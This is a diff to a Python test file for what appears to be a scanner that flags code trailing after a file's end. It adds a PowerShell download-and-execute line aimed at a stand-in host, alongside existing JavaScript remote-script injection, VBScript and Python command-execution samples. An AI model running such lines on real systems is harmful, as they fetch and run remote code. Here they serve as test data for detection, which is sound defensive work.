@@ -307,6 +307,7 @@ def test_finds_an_archive_in_a_value_of_a_profile(fired: Fired) -> None:
         ("JavaScript", b"\nvar s = document.createElement('script'); s.src = '//x/x.js'; document.body.append(s);\n"),
         ("VBScript", b'\r\nSet shell = CreateObject("WScript.Shell")\r\nshell.Run "calc"\r\n'),
         ("Python code", b"\nimport os, sys\nos.system('id')\n"),
+        ("PowerShell code", b"\r\nIEX (New-Object Net.WebClient).DownloadString('http://x/a')\r\n"),
     ],
 )
 def test_finds_code_without_a_tag_after_the_end(fired: Fired, name: str, code: bytes) -> None:
